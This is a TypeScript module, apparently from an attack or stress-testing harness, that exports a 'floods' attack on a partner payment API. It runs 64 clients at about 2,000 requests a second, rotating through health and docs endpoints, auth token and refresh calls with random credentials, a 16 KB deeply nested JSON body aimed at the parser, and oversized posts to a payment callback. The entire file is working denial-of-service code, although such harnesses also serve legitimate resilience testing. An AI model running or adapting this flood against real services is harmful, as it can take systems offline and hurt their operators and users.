import { ask, get, post } from '../gang/requests.ts'
import { type Attack, halfFromOne } from '../gang/round.ts'

const CLIENTS = 64
/** About 2,000 requests a second, as long as they are answered at once. */
const GAP_MS = 30
const BODY_BYTES = 16 * 1024

const TOKEN = '/api/v1/partner/auth/token'
const REFRESH = '/api/v1/partner/auth/refresh'
const CALLBACK = '/api/v1/partner/payment/callback'

/** Deep JSON in a body of the largest size. */
const DEEP = `${'['.repeat(BODY_BYTES / 2 - 8)}${']'.repeat(BODY_BYTES / 2 - 8)}`
const LARGE = JSON.stringify({ clientId: 'x'.repeat(BODY_BYTES - 64), clientSecret: 'x' })

/** Each takes its turn, so that a cheap one does not hide a costly one. */
const REQUESTS: readonly ((random: () => number) => string)[] = [
  () => get('/healthz'),
  () => get('/readyz'),
  () => get('/openapi.json'),
  () => get('/docs'),
  (random) => get(`/api/v1/${random()}`),
  (random) => post(TOKEN, JSON.stringify({ clientId: `pk_${random()}`, clientSecret: `sk_${random()}` })),
  (random) => post(REFRESH, JSON.stringify({ refreshToken: `rt_${random()}` })),
  () => post(TOKEN, DEEP),
  () => post(TOKEN, LARGE),
  (random) => post(CALLBACK, LARGE, `at_${random()}`),
]

export const floods: Attack = (target, round) => {
  const request = () => {
    const turn = Math.floor(round.passed() * REQUESTS.length)
    return (REQUESTS[turn] ?? (() => get('/')))(round.random)
  }
  const from = (client: number) => halfFromOne(client, CLIENTS)
  return ask(round, target.http, { clients: CLIENTS, gapMs: GAP_MS, from, request })
}
